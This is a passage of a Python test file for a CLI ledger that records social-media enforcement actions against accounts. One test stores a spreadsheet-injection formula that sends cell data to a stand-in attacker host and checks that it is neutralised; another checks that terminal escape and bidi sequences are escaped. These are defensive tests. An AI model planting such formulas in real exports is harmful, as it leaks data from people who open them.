    assert "already exists" in result.stderr
    assert path.read_bytes() == b"precious"


def test_demo_builds_unsigned_whatever_key_is_configured(tmp_path: Path) -> None:
    """A team's ENFORCEMENT_LEDGER_KEY_FILE signs as its own log: the demo made its
    store, then every append was refused as signed by another log's key."""
    team = tmp_path / "team.db"
    assert CliRunner().invoke(cli, ["--store", str(team), "init"]).exit_code == 0
    assert CliRunner().invoke(cli, ["--store", str(team), "keygen"]).exit_code == 0
    demo_path = tmp_path / "demo.db"
    result = CliRunner(env={"ENFORCEMENT_LEDGER_KEY_FILE": f"{team}.key"}).invoke(
        cli, ["--key-file", f"{team}.key", "demo", "--store", str(demo_path)]
    )
    assert result.exit_code == 0, result.output
    assert f"Appended {SEED_EVENTS} event(s)" in result.stdout


def test_demo_store_errors_name_the_demo_store(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """rv35: a store failure while the demo wrote named the top-level store (the
    default ./enforcement-ledger.db, which it never opened), not the demo's."""
    import sqlite3

    from ledger import persistence
    from ledger.application import Ledger

    monkeypatch.setattr(persistence, "SQLITE_BUSY_TIMEOUT_S", 0.2)
    append = Ledger.append

    def with_the_store_locked(self: Ledger, *args: Any, **kwargs: Any) -> Any:
        other = sqlite3.connect(demo_path, isolation_level=None)
        try:
            other.execute("BEGIN IMMEDIATE")  # another writer
            return append(self, *args, **kwargs)
        finally:
            other.close()

    monkeypatch.setattr(Ledger, "append", with_the_store_locked)
    demo_path = tmp_path / "demo.db"
    result = CliRunner().invoke(
        cli, ["--store", str(tmp_path / "team.db"), "demo", "--store", str(demo_path)]
    )
    assert result.exit_code == 1, (result.output, result.exception)
    assert f"another process kept {demo_path} locked" in result.stderr, result.stderr
    assert "team.db" not in result.stderr


@pytest.mark.parametrize("store_kind", ["postgres"])
def test_demo_refuses_a_postgresql_schema_that_holds_a_ledger(store: Store) -> None:
    # It appended the seed story into a team's ledger, where it could only be retracted.
    store.append(account("twitter:team"))
    result = store.run("demo")
    assert result.exit_code == 1, result.output
    assert result.stderr == (
        f"Error: {store.url} already holds a ledger; the demo builds a fresh store, give a "
        "new schema\n"
    )
    assert store.count() == 1


# --- counts ----------------------------------------------------------------------


def _counted(
    events: list[dict[str, Any]],
    by: tuple[str, ...],
    per: int | None = None,
    subject_of: dict[str, Any] | None = None,
) -> list[dict[str, Any]]:
    """The oracle: what `counts` must say, from the timeline's own rows; an account's
    events count under ``subject_of`` it (its registration's subject)."""
    tally: dict[tuple[Any, ...], int] = {}

    def value(event: dict[str, Any], field: str) -> Any:
        of_account = event.get("account") and event["type"] != "account_registered"
        if field == "subject" and of_account and subject_of is not None:
            return subject_of.get(event["account"])
        return event.get(field)

    for event in events:
        key = ((event["occurred_at"][:per],) if per else ()) + tuple(value(event, d) for d in by)
        tally[key] = tally.get(key, 0) + 1

    def order(item: tuple[tuple[Any, ...], int]) -> tuple[Any, ...]:
        key, count = item
        values = key[1:] if per else key
        period = (key[0],) if per else ()
        return (*period, -count, *[(v is not None, v or "") for v in values])

    names = (["period"] if per else []) + list(by)
    return [
        {**dict(zip(names, key, strict=True)), "count": n}
        for key, n in sorted(tally.items(), key=order)
    ]


@pytest.mark.parametrize(
    ("by", "per", "filters"),
    [
        ((), None, ()),
        (("platform",), None, ()),
        (("platform", "type"), None, ()),
        (("type", "actor"), None, ("--subject", "khamenei")),
        (("policy",), None, ("--type", "account_removed", "--type", "account_suspended")),
        (("account",), None, ("--since", "2023-01-01", "--until", "2024-02-08")),
        (("platform",), 7, ()),
        ((), 4, ("--platform", "twitter")),
        (("type",), 10, ("--known-at", "2099-01-01")),
        (("subject",), None, ()),
        (("subject", "platform"), 4, ("--type", "account_removed", "--type", "subject_registered")),
        (("platform", "subject"), None, ("--subject", "khamenei")),
    ],
)
def test_counts_agree_with_the_timeline(
    world: Store, by: tuple[str, ...], per: int | None, filters: tuple[str, ...]
) -> None:
    period = {7: ("--per", "month"), 4: ("--per", "year"), 10: ("--per", "day")}.get(per or 0, ())
    args = [a for d in by for a in ("--by", d)]
    rows = nl(world, "counts", *args, *period, *filters)
    registered = world.timeline("--type", "account_registered")
    subject_of = {e["account"]: e.get("subject") for e in registered if not e["retracted"]}
    listed = [e for e in world.timeline(*filters) if not e["retracted"]]
    expected = _counted(listed, by, per, subject_of)
    assert rows == expected
    header, *values = read_csv(world.ok("counts", *args, *period, *filters, "--csv").stdout)
    assert header == (["period"] if per else []) + list(by) + ["count"]
    assert [int(v[-1]) for v in values] == [r["count"] for r in rows]


def test_counts_by_subject_follow_the_registration_as_known_at_the_time(store: Store) -> None:
    # An account registered to the wrong subject, then re-registered: its events
    # count under the subject its registration in force names at --known-at.
    store.append(
        subject("khamenei", "2019-01-01"),
        subject("someone_else", "2019-01-01"),
        account("twitter:kh", "2020-01-01", subject="someone_else", event_id="wrong"),
        ev("followers_observed", "2021-01-01", account="twitter:kh", count=5, event_id="f1"),
    )
    before = datetime.now(UTC).isoformat()
    store.append(
        ev("event_retracted", "2021-02-01", target="f1", reason="on the wrong registration"),
        ev("event_retracted", "2021-02-01", target="wrong", reason="wrong subject"),
        account("twitter:kh", "2020-01-01", subject="khamenei", event_id="right"),
        ev("followers_observed", "2021-01-01", account="twitter:kh", count=5, event_id="f2"),
    )
    args = ("counts", "--by", "subject", "--type", "followers_observed")
    assert nl(store, *args) == [{"subject": "khamenei", "count": 1}]
    assert nl(store, *args, "--known-at", before) == [{"subject": "someone_else", "count": 1}]
    # The retractions are events of the account: they count under its subject now,
    # as the subject filter lists them (not under the retracted registration's).
    retractions = ("counts", "--by", "subject", "--type", "event_retracted")
    assert nl(store, *retractions) == [{"subject": "khamenei", "count": 2}]
    assert nl(store, *retractions, "--subject", "khamenei") == nl(store, *retractions)
    # An account left with no registration in force: the retraction of it counts under
    # the subject that registration named, as the subject filter lists it.
    store.append(
        account("twitter:other", "2020-01-01", subject="khamenei", event_id="other"),
        ev("event_retracted", "2021-02-01", target="other", reason="not theirs", event_id="x3"),
    )
    counted = nl(store, "counts", "--by", "subject", "--subject", "khamenei")
    assert [row["subject"] for row in counted] == ["khamenei"]


def test_counts_leave_out_retracted_events_as_known_at_the_time(world: Store) -> None:
    world.append(
        ev("account_removed", "2024-02-10", account=X_KH, policy="DOI", event_id="oops"),
    )
    between = datetime.now(UTC).isoformat()
    world.append(ev("event_retracted", "2024-02-11", target="oops", reason="misread"))
    args = ("counts", "--by", "type", "--account", X_KH)
    now = {r["type"]: r["count"] for r in nl(world, *args)}
    assert "account_removed" not in now
    assert now["event_retracted"] == 1
    included = {r["type"]: r["count"] for r in nl(world, *args, "--include-retracted")}
    assert included["account_removed"] == 1
    before = {r["type"]: r["count"] for r in nl(world, *args, "--known-at", between)}
    assert before["account_removed"] == 1
    assert "event_retracted" not in before


def test_counts_periods_are_utc_days_to_the_microsecond(store: Store) -> None:
    # Before 1970 and at a day's last microsecond: each falls in its own UTC day.
    store.append(
        subject("early", "1969-12-31T23:59:59.999999Z"),
        subject("late", "2024-02-08T23:59:59.999999Z"),
        subject("next", "2024-02-09T00:00:00+01:00"),
    )
    assert nl(store, "counts", "--per", "day") == [
        {"period": "1969-12-31", "count": 1},
        {"period": "2024-02-08", "count": 2},
    ]
    assert nl(store, "counts", "--per", "year") == [
        {"period": "1969", "count": 1},
        {"period": "2024", "count": 2},
    ]


def test_counts_rows_most_numerous_first_then_by_value(world: Store) -> None:
    rows = nl(world, "counts", "--by", "platform")
    assert [r["count"] for r in rows] == sorted((r["count"] for r in rows), reverse=True)
    assert nl(world, "counts", "--by", "platform", "--limit", "1") == rows[:1]
    table = parse_table(world.ok("counts", "--by", "platform").stdout)
    assert [(r["platform"], int(r["count"])) for r in table] == [
        (r["platform"] or "", r["count"]) for r in rows
    ]


def test_counts_options_offer_what_the_query_counts_by() -> None:
    # The CLI spells the choices out so that `--help` loads no read side.
    from projections.queries import COUNT_DIMENSIONS, PERIODS

    options = {p.name: p for p in cli.commands["counts"].params}
    assert tuple(options["dimensions"].type.choices) == COUNT_DIMENSIONS  # type: ignore[attr-defined]
    assert tuple(options["per"].type.choices) == PERIODS  # type: ignore[attr-defined]


def test_posts_and_appeals_state_choices_are_the_states_the_queries_give() -> None:
    from projections.queries import APPEAL_STATES, POST_STATES

    for command, states in (("posts", POST_STATES), ("appeals", APPEAL_STATES)):
        options = {p.name: p for p in cli.commands[command].params}
        assert tuple(options["state_filter"].type.choices) == states  # type: ignore[attr-defined]


def test_counts_refuse_a_field_twice_and_an_unknown_one(world: Store) -> None:
    reject(
        world, "counts", "--by", "type", "--by", "type", code=2, expect=("give each field once",)
    )
    reject(world, "counts", "--by", "post", code=2, expect=("'post' is not one of",))


# --- help ------------------------------------------------------------------------


def _command_paths() -> list[tuple[str, ...]]:
    paths: list[tuple[str, ...]] = [()]

    def walk(group: click.Group, prefix: tuple[str, ...]) -> None:
        context = click.Context(group)
        for name in group.list_commands(context):
            command = group.get_command(context, name)
            assert command is not None
            paths.append((*prefix, name))
            if isinstance(command, click.Group):
                walk(command, (*prefix, name))

    assert isinstance(cli, click.Group)
    walk(cli, ())
    return paths


COMMAND_PATHS = _command_paths()


@pytest.mark.parametrize("path", COMMAND_PATHS, ids=lambda p: " ".join(p) or "(top)")
def test_every_command_has_help_with_an_example(path: tuple[str, ...]) -> None:
    result = CliRunner().invoke(cli, [*path, "--help"])
    assert result.exit_code == 0, result.output
    assert "Example" in result.stdout
    assert "enforcement-ledger" in result.stdout.split("Example")[1]


def test_the_readme_command_table_names_every_command() -> None:
    readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
    table = [line for line in readme.splitlines() if line.startswith("| `")]
    documented = {name for line in table for name in re.findall(r"`([a-z]+)[ `]", line)}
    missing = {p[0] for p in COMMAND_PATHS if p} - documented
    assert not missing, f"commands missing from README's table: {sorted(missing)}"


def test_the_documented_commands_exist() -> None:
    names = {p[0] for p in COMMAND_PATHS if p}
    assert {
        "init",
        "append",
        "record",
        "status",
        "accounts",
        "timeline",
        "export",
        "replay",
        "schema",
        "demo",
    } <= names
    assert len([p for p in COMMAND_PATHS if p[:1] == ("record",)]) == 1 + 18


# --- replay ------------------------------------------------------------------------


def _reads(store: Store) -> list[str]:
    moment = ("--as-of", "2024-03-01", "--known-at", "2099-01-01")
    outputs = [
        store.ok("timeline", "--nl", "--known-at", "2099-01-01").stdout,
        store.ok("timeline", "--known-at", "2099-01-01").stdout,
        store.ok("accounts", "--json", *moment).stdout,
        store.ok("accounts", *moment).stdout,
    ]
    outputs += [store.ok("status", a, "--json", *moment).stdout for a in (IG, FB, X_KH, X_DT)]
    return outputs


def test_replay_rebuilds_identical_projections(world: Store) -> None:
    world.append(ev("event_retracted", "2024-03-01", target="rm-fb", reason="wrong"))
    before = _reads(world)
    result = world.ok("replay")
    assert result.stdout == "Rebuilt projections from 16 event(s)\n"
    assert _reads(world) == before
    assert world.ok("replay", "--silent").stdout == "Rebuilt projections from 16 event(s)\n"
    assert _reads(world) == before


def test_replay_of_an_empty_ledger(store: Store) -> None:
    assert store.ok("replay").stdout == "Rebuilt projections from 0 event(s)\n"


def test_appends_after_replay_keep_projections_current(world: Store) -> None:
    world.ok("replay")
    world.append(ev("account_reinstated", "2024-03-01", account=IG, event_id="back"))
    assert world.status(IG)["status"] == "active"
    assert world.timeline()[-1]["event_id"] == "back"


# --- actor -----------------------------------------------------------------------


def test_actor_comes_from_the_option_before_the_environment(store: Store) -> None:
    store.ok(
        "append",
        "--actor",
        "alice",
        "-",
        input=jsonl(account(X_KH)),
        env={"ENFORCEMENT_LEDGER_ACTOR": "bob"},
    )
    store.ok("append", "-", input=jsonl(account(IG)), env={"ENFORCEMENT_LEDGER_ACTOR": "bob"})
    store.ok(
        "record",
        "followers-observed",
        "--account",
        X_KH,
        "--count",
        "1",
        "--occurred-at",
        "2021-01-01",
        "--source",
        "s",
        "--actor",
        "carol",
        env={"ENFORCEMENT_LEDGER_ACTOR": "bob"},
    )
    store.ok(
        "record",
        "followers-observed",
        "--account",
        IG,
        "--count",
        "1",
        "--occurred-at",
        "2021-01-01",
        "--source",
        "s",
        env={"ENFORCEMENT_LEDGER_ACTOR": "dave"},
    )
    assert [e["actor"] for e in export(store)] == ["alice", "bob", "carol", "dave"]


def test_actor_defaults_to_the_os_user(store: Store) -> None:
    result = CliRunner().invoke(
        cli,
        ["--store", store.url, "append", "-"],
        input=jsonl(account(X_KH)),
        env={"ENFORCEMENT_LEDGER_ACTOR": None},
    )
    assert result.exit_code == 0, result.output
    assert export(store)[-1]["actor"] == getpass.getuser()


def test_init_refuses_a_sqlite_database_holding_only_a_view(tmp_path: Path) -> None:
    # A view named like a read model made init fail half way (exit 70).
    import sqlite3

    path = tmp_path / "views.db"
    with closing(sqlite3.connect(path)) as conn:
        conn.execute("CREATE VIEW timeline AS SELECT 1 AS x")
    result = Store(str(path), "sqlite", tmp_path).fail("init")
    assert "is a SQLite database but not a ledger" in result.output


def test_init_makes_no_directories(tmp_path: Path) -> None:
    """A mistyped directory gave a new, empty ledger there (parents were created)."""
    store = Store(str(tmp_path / "typo" / "ledger.db"), "sqlite", tmp_path)
    result = store.fail("init")
    assert result.stderr == (
        f"Error: no directory {tmp_path / 'typo'} to hold ledger.db; create the directory "
        "first, or check the --store path\n"
    )
    assert not (tmp_path / "typo").exists()
    (tmp_path / "typo").mkdir()
    store.ok("init")


def test_init_refuses_a_sqlite_database_that_is_not_a_ledger(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "someone-elses.db"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE notes (body TEXT)")
    conn.close()
    before = path.read_bytes()
    other = Store(str(path), "sqlite", tmp_path)
    result = other.fail("init")
    assert "is a SQLite database but not a ledger" in result.output
    # Other commands sent it to init, which refuses it.
    for args in (["status", "x:a"], ["append", "-"]):
        message = other.fail(*args, input="").output
        assert message == (
            f"Error: {path} is a SQLite database but not a ledger; choose another --store "
            "(`init` adds no ledger to it)\n"
        )
    with sqlite3.connect(path) as conn:
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    conn.close()
    assert tables == {"notes"}
    # Not a byte changed: opening it put it in WAL mode, rewriting its header.
    assert path.read_bytes() == before
    assert not path.with_name(path.name + "-wal").exists()
    # Nor an empty file given as copy's SOURCE (it became a 4 KiB SQLite database).
    empty = tmp_path / "empty.nl"
    empty.write_bytes(b"")
    store = Store(str(tmp_path / "ledger.db"), "sqlite", tmp_path)
    store.ok("init")
    store.fail("copy", str(empty))
    assert empty.read_bytes() == b""
    # As a copy's SOURCE, told as on PostgreSQL (a schema of someone's tables).
    assert store.fail("copy", str(path)).stderr == (
        f"Error: SOURCE: {path} is a SQLite database but not a ledger\n"
    )


# --- what a person sees -------------------------------------------------------


def test_human_formats_escape_control_characters_and_machine_formats_keep_them(
    store: Store,
) -> None:
    # Stored text comes from platforms: in a table or the status lines an ESC sequence
    # would drive the terminal, a newline break the row, a bidi override reorder it.
    policy = "Hate\nspeech\x1b[31m red\u202e tail\u2028\u200f\u061c\xadx"
    store.append(
        account("twitter:example", "2020-01-01"),
        ev("account_suspended", "2021-01-08", account="twitter:example", policy=policy),
    )
    shown = "Hate\\nspeech\\x1b[31m red\\u202e tail\\u2028\\u200f\\u061c\\xadx"
    status = store.ok("status", "twitter:example").stdout
    assert f"policy:       {shown}\n" in status
    for table in (status, store.ok("timeline").stdout, store.ok("accounts").stdout):
        assert "\x1b" not in table
        assert "\u202e" not in table
    (suspension,) = parse_table(store.ok("timeline", "--type", "account_suspended").stdout)
    assert suspension["policy"] == shown
    (row,) = parse_table(store.ok("accounts").stdout)
    assert row["policy"] == shown
    assert json.loads(store.ok("status", "twitter:example", "--json").stdout)["policy"] == policy
    assert nl(store, "timeline", "--type", "account_suspended")[0]["policy"] == policy
    header, values = read_csv(store.ok("accounts", "--csv").stdout)
    assert dict(zip(header, values, strict=True))["policy"] == policy


def test_json_lines_are_one_record_a_line_to_splitlines_with_any_line_break_stored(
    store: Store,
) -> None:
    # A stored NEL (U+0085), like U+2028, is valid raw in JSON, yet a line break to
    # Python's splitlines: raw, it cut a record of `--nl` in two there.
    policy = "Hate\x85speech\u2028and\u2029more"
    store.append(
        account("twitter:example", "2020-01-01"),
        ev("account_suspended", "2021-01-08", account="twitter:example", policy=policy),
    )
    for args in (("timeline",), ("accounts",), ("accounts", "--history")):
        (row,) = (r for r in nl(store, *args) if r.get("policy"))
        assert row["policy"] == policy
    document = store.ok("status", "twitter:example", "--json").stdout
    assert json.loads("".join(document.splitlines()))["policy"] == policy


def test_a_cut_table_cell_is_marked(store: Store) -> None:
    reason = "violated the rules; it may be in the public's interest to keep it up"
    store.append(
        account("twitter:example", "2020-01-01"),
        ev("post_published", "2021-01-01", account="twitter:example", post="p1"),
        ev(
            "post_warning_screen_applied",
            "2021-01-02",
            account="twitter:example",
            post="p1",
            policy="X Rules",
            reason=reason,
        ),
    )
    table = store.ok("timeline", "--type", "post_warning_screen_applied").stdout
    (row,) = parse_table(table)
    assert len(row["detail"]) == 60
    assert row["detail"].endswith("…")
    assert ("post=p1; reason=" + reason).startswith(row["detail"][:-1])
    assert nl(store, "timeline", "--type", "post_warning_screen_applied")[0]["reason"] == reason


@pytest.mark.parametrize(
    "command",
    [["timeline"], ["counts", "--by", "platform"], ["accounts"], ["posts"]],
    ids=["timeline", "counts", "accounts", "posts"],
)
def test_a_platforms_new_name_given_for_its_slug_is_told_the_slug(
    store: Store, command: list[str]
) -> None:
    """Twitter became X: `--platform x` would match nothing, silently; it is told
    that filters take the slug, which never changes."""
    store.ok("append", str(Path(__file__).parents[1] / "ledger" / "data" / "seed.jsonl"))
    for typed in ("x", "X", "\uff38"):  # in any case or width (full-width X)
        result = store.fail(*command, "--platform", typed, code=2)
        assert (
            f"Invalid value for --platform: no platform has the slug {typed!r}; 'X' is the "
            "name platform 'twitter' took on 2023-07-23T00:00:00Z, and filters name a "
            "platform by its slug, which never changes: --platform twitter\n"
        ) in result.output
    assert "twitter" in store.ok(*command, "--platform", "twitter").output
    store.ok(*command, "--platform", "nosuch")  # unknown and no one's name: nothing listed
    # A slug in capitals could match nothing either: slugs are lower case.
    result = store.fail(*command, "--platform", "Instagram", code=2)
    assert (
        "Invalid value for --platform: no platform has the slug 'Instagram' (expected a "
        "lowercase slug: a-z, 0-9, '_', '.', '-', starting with a letter or digit); "
        "--platform instagram\n"
    ) in result.output
    # Only a slug the ledger holds is offered ('foo bar' was, which is no slug at all).
    for typed in ("Foo Bar", "YOUTUBE"):
        result = store.fail(*command, "--platform", typed, code=2)
        assert "--platform foo bar" not in result.output
        assert f"no platform has the slug {typed!r}" in result.output
        assert "its platforms are facebook, instagram, twitter\n" in result.output
    for typed in ("instagram\n", "instagram ", "\uff49nstagram"):  # the slug meant
        result = store.fail(*command, "--platform", typed, code=2)
        assert result.output.endswith("; --platform instagram\n"), result.output


def test_subjects_show_each_persons_accounts_side_by_side(store: Store) -> None:
    """The seed story as researchers ask it: Khamenei removed by Meta, active on X,
    is divergent from the day Meta acted; before it, all his accounts were active."""
    store.ok("append", str(Path(__file__).parents[1] / "ledger" / "data" / "seed.jsonl"))
    after = json.loads(store.ok("subjects", "--as-of", "2024-02-10", "--json").stdout)
    assert [(s["subject"], s["divergent"]) for s in after] == [
        ("donald_trump", False),
        ("khamenei", True),
    ]
    khamenei = after[1]
    assert khamenei["name"] == "Ali Khamenei"
    assert [(a["account"], a["status"]) for a in khamenei["accounts"]] == [
        ("facebook:khamenei.ir", "removed"),
        ("instagram:khamenei_fa", "removed"),
        ("instagram:khamenei_ir", "removed"),
        ("twitter:khamenei_ir", "active"),
    ]
    # The day before Meta acted only his X account existed (as far as the ledger
    # knows); a subject is listed once it or an account of it is registered.
    before = json.loads(store.ok("subjects", "--as-of", "2024-02-07", "--json").stdout)
    assert [(s["subject"], s["divergent"], len(s["accounts"])) for s in before] == [
        ("donald_trump", False, 1),
        ("khamenei", False, 1),
    ]
    # Both accounts on Twitter the day it banned Trump: the double standard reported.
    banned = json.loads(store.ok("subjects", "--as-of", "2021-01-08", "--json").stdout)
    assert [(s["subject"], s["divergent"], len(s["accounts"])) for s in banned] == [
        ("donald_trump", False, 1),
        ("khamenei", False, 1),
    ]
    earlier = json.loads(store.ok("subjects", "--as-of", "2021-01-07", "--json").stdout)
    assert earlier == []
    assert store.ok("subjects", "--as-of", "2020-01-01").stderr == "(no subjects)\n"
    # A subject registered before any account of it is listed from its registration.
    store.append(
        ev("subject_registered", "2019-01-01", subject="nobody", name="No Body", kind="person")
    )
    listed = json.loads(store.ok("subjects", "--as-of", "2020-01-01", "--json").stdout)
    assert [(s["subject"], s["accounts"]) for s in listed] == [("nobody", [])]
    divergent = store.ok("subjects", "--divergent", "--as-of", "2024-02-10").stdout
    assert divergent.splitlines()[2].split(None, 3) == [
        "khamenei",
        "Ali",
        "Khamenei",
        # The exemption that explains the one account kept (the table cut it at 60).
        "yes        facebook removed, instagram removed x2, twitter active (exempt: "
        "un_recognised_government_official)",
    ]
    (x_account,) = [a for a in after[1]["accounts"] if a["platform"] == "twitter"]
    assert [e["exemption"] for e in x_account["exemptions"]] == [
        "un_recognised_government_official"
    ]
    only = json.loads(store.ok("subjects", "--subject", "donald_trump", "--json").stdout)
    assert [s["subject"] for s in only] == ["donald_trump"]
    none = store.ok("subjects", "--divergent", "--as-of", "2024-02-07")
    assert (none.stdout, none.stderr) == ("", "(no subjects)\n")


def test_spreadsheet_csv_shows_formulas_instead_of_running_them(store: Store) -> None:
    """Text from platforms may start a spreadsheet formula: --spreadsheet prefixes
    such cells with ' (OWASP's CSV injection advice); --csv keeps the text as stored."""
    store.append(account("twitter:a", "2020-01-01", handle="@a"))
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    store.append(
        ev(
            "post_published", "2020-02-01", account="twitter:a", post="p1",
            excerpt=hostile, note="+1 more",
        ),
        ev(
            "post_published", "2020-02-02", account="twitter:a", post="p2",
            excerpt="@everyone", note="-1",
        ),
    )  # fmt: skip
    plain_text = store.ok("timeline", "--csv").stdout
    safe_text = store.ok("timeline", "--spreadsheet").stdout
    # A byte-order mark, so that Excel reads the UTF-8 (it is no part of --csv).
    assert safe_text.startswith("\ufeffsequence,")
    assert plain_text.startswith("sequence,")
    plain = list(csv.DictReader(io.StringIO(plain_text)))
    safe = list(csv.DictReader(io.StringIO(safe_text.removeprefix("\ufeff"))))
    assert [r["excerpt"] for r in plain] == ["", hostile, "@everyone"]
    assert [r["excerpt"] for r in safe] == ["", "'" + hostile, "'@everyone"]
    assert safe[0]["handle"] == "'@a"
    assert [r["note"] for r in safe][1:] == ["'+1 more", "'-1"]
    assert [r["sequence"] for r in safe] == ["0", "1", "2"]  # others as they are
    document = store.ok("status", "twitter:a", "--spreadsheet").stdout.removeprefix("\ufeff")
    assert next(csv.DictReader(io.StringIO(document)))["handle"] == "'@a"
    result = store.fail("timeline", "--csv", "--spreadsheet", code=2)
    assert "choose one output format: --csv or --spreadsheet" in result.output


def test_csv_records_end_in_crlf_and_text_keeps_its_own_line_ends(store: Store) -> None:
    """RFC 4180: every record ends in CRLF (they ended in LF, so a note's stored CRLF
    made one file of two line endings); a line break within a field stays as stored."""
    store.append(account("twitter:a", "2020-01-01", handle="@a"))
    store.append(
        ev("post_published", "2020-02-01", account="twitter:a", post="p1",
           excerpt='one, "two"\nthree', note="a\r\nb"),
    )  # fmt: skip
    for form in ("--csv", "--spreadsheet"):
        # The bytes: click's test result reads "\r\n" as "\n" in its text.
        text = store.ok("timeline", form).stdout_bytes.decode().removeprefix("\ufeff")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 3
        records = text.split("\r\n")
        assert records[-1] == ""
        assert records[0].startswith("sequence,")
        assert text.count("\r\n") == 4  # three records and the note's own
        post = dict(zip(rows[0], rows[2], strict=True))
        assert (post["excerpt"], post["note"]) == ('one, "two"\nthree', "a\r\nb")


def test_spreadsheet_csv_is_utf8_whatever_the_terminals_encoding(tmp_path: Path) -> None:
    # cp1252 is what Python on Windows writes redirected output in: the byte-order
    # mark failed there (exit 70), and the text would not have been the UTF-8 it announces.
    store = tmp_path / "ledger.db"
    assert cli_process("--store", str(store), "init").returncode == 0
    handle = "Ḵhāmeneʼi_فارسی"
    entry = jsonl(account(f"twitter:{handle}"))
    assert subprocess.run([*CLI, "--store", str(store), "append", "-"], input=entry,
                          text=True, cwd=REPO, env={**os.environ, "ENFORCEMENT_LEDGER_ACTOR": "t"},
                          capture_output=True).returncode == 0  # fmt: skip
    done = subprocess.run(
        [*CLI, "--store", str(store), "accounts", "--spreadsheet"],
        cwd=REPO,
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "cp1252"},
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(b"\xef\xbb\xbfaccount,")
    assert f"twitter:{handle}".encode() in done.stdout


def test_shell_completion_of_a_line_with_a_repeated_option_completes(tmp_path: Path) -> None:
    # The repeated-option check refused the half-typed line: exit 70.
    env = {
        **os.environ,
        "COMP_WORDS": "enforcement-ledger timeline --account a --account b --",
        "COMP_CWORD": "6",
        "_ENFORCEMENT_LEDGER_COMPLETE": "bash_complete",
    }
    done = subprocess.run(
        [sys.executable, "-c", "from cli.main import cli; cli(prog_name='enforcement-ledger')"],
        cwd=REPO, env=env, capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "plain,--subject" in done.stdout


def test_table_columns_line_up_after_wide_characters(store: Store) -> None:
    """A CJK or emoji handle takes two terminal columns a character: the cells after it
    are padded by display width, not by character count."""
    from cli.output import display_width

    store.append(account("twitter:中文中"), account("twitter:abc"), account("twitter:😀x"))
    lines = store.ok("accounts").stdout.splitlines()
    header, rows = lines[0], lines[2:]
    column = display_width(header[: header.index("status")])
    assert len(rows) == 3
    for row in rows:
        assert display_width(row[: row.index("active")]) == column, lines


def test_counts_pages_with_limit_and_offset_like_the_timeline(world: Store) -> None:
    def rows(*args: str) -> list[dict[str, Any]]:
        return json.loads(world.ok("counts", "--by", "type", "--json", *args).stdout)  # type: ignore[no-any-return]

    every = rows()
    assert len(every) > 3
    assert rows("--limit", "2", "--offset", "1") == every[1:3]
    assert rows("--offset", "2") == every[2:]
    assert rows("--offset", str(len(every))) == []


@pytest.mark.parametrize(
    "listing",
    [("accounts",), ("accounts", "--history"), ("posts",), ("appeals",), ("subjects",)],
)
def test_every_listing_pages_with_limit_and_offset(world: Store, listing: tuple[str, ...]) -> None:
    # As timeline and counts do: pages of any size join back into the whole answer.
    world.append(
        ev("appeal_filed", "2024-02-09", account=IG, appeal="ap-ig", target="rm-ig"),
        ev("appeal_filed", "2024-02-10", account=FB, appeal="ap-fb", target="rm-fb"),
        ev("post_published", "2024-01-05", account=X_KH, post="p-2"),
    )
    now = datetime.now(UTC).isoformat()
    known: tuple[str, ...] = ("--known-at", now)  # one answer for every page
    if "--history" not in listing:
        known += ("--as-of", now)
    whole = nl(world, *listing, *known)
    assert len(whole) >= 2, listing
    for size in (1, 2, len(whole)):
        pages = [
            nl(world, *listing, *known, "--limit", str(size), "--offset", str(start))
            for start in range(0, len(whole) + 1, size)
        ]
        assert [row for page in pages for row in page] == whole
    assert nl(world, *listing, *known, "--offset", str(len(whole))) == []
    # The largest limit is "no limit", from any offset (as on timeline and counts).
    largest = ("--limit", str(2**63 - 1), "--offset", "1")
    assert nl(world, *listing, *known, *largest) == whole[1:]


def test_a_restricted_accounts_status_names_what_is_restricted(store: Store) -> None:
    """The restriction kinds were in the timeline only: status said "restricted"."""
    store.append(
        subject("someone"),
        account("twitter:a", "2020-01-01", handle="@a", subject="someone"),
        ev("account_restricted", "2020-02-01", account="twitter:a", policy="p",
           restrictions=["reach", "replies"], event_id="r1"),
    )  # fmt: skip
    assert store.status("twitter:a")["restrictions"] == ["reach", "replies"]
    assert "restrictions: reach, replies\n" in store.ok("status", "twitter:a").stdout
    listed = json.loads(store.ok("accounts", "--json").stdout)
    assert [row["restrictions"] for row in listed] == [["reach", "replies"]]
    # The accounts table and the subjects listing name them too (a researcher saw
    # "restricted" there and had to ask each account's status for what).
    header, _, row = store.ok("accounts").stdout.splitlines()
    assert "restrictions" in header.split()
    assert "reach, replies" in row
    assert "reach" not in store.ok("accounts", "--as-of", "2020-01-15").stdout
    (listed,) = json.loads(store.ok("subjects", "--json").stdout)
    assert [held["restrictions"] for held in listed["accounts"]] == [["reach", "replies"]]
    before = store.status("twitter:a", "--as-of", "2020-01-15")
    assert before["restrictions"] is None  # active: nothing restricted
    assert "restrictions" not in store.ok("status", "twitter:a", "--as-of", "2020-01-15").stdout
    # Measures stack: while a newer one runs, the older one still limits the account
    # (only the newer one's kinds were named).
    store.append(
        ev("account_restricted", "2020-03-01", account="twitter:a", policy="spam",
           restrictions=["read_only", "reach"], until="2020-03-02", event_id="r2"),
    )  # fmt: skip
    during = store.status("twitter:a", "--as-of", "2020-03-01T12:00:00Z")
    assert (during["cause_event"], during["restrictions"]) == (
        "r2",
        ["reach", "replies", "read_only"],
    )
    after = store.status("twitter:a", "--as-of", "2020-03-02")
    assert (after["cause_event"], after["restrictions"]) == ("r1", ["reach", "replies"])
    store.append(ev("account_reinstated", "2020-04-01", account="twitter:a"))
    assert store.status("twitter:a")["restrictions"] is None


def test_a_policy_or_actor_spelt_with_combining_accents_is_one_with_the_composed(
    store: Store,
) -> None:
    """Policies and actors are filtered and counted by their text: "Política" typed
    with a combining accent printed alike yet split the counts, and `--actor José`
    found nothing of 'Jose\u0301' with no hint why."""
    composed, combining = "Pol\u00edtica", "Poli\u0301tica"
    store.append(account("x:n1", "2024-01-01"), account("x:n2", "2024-01-01"))
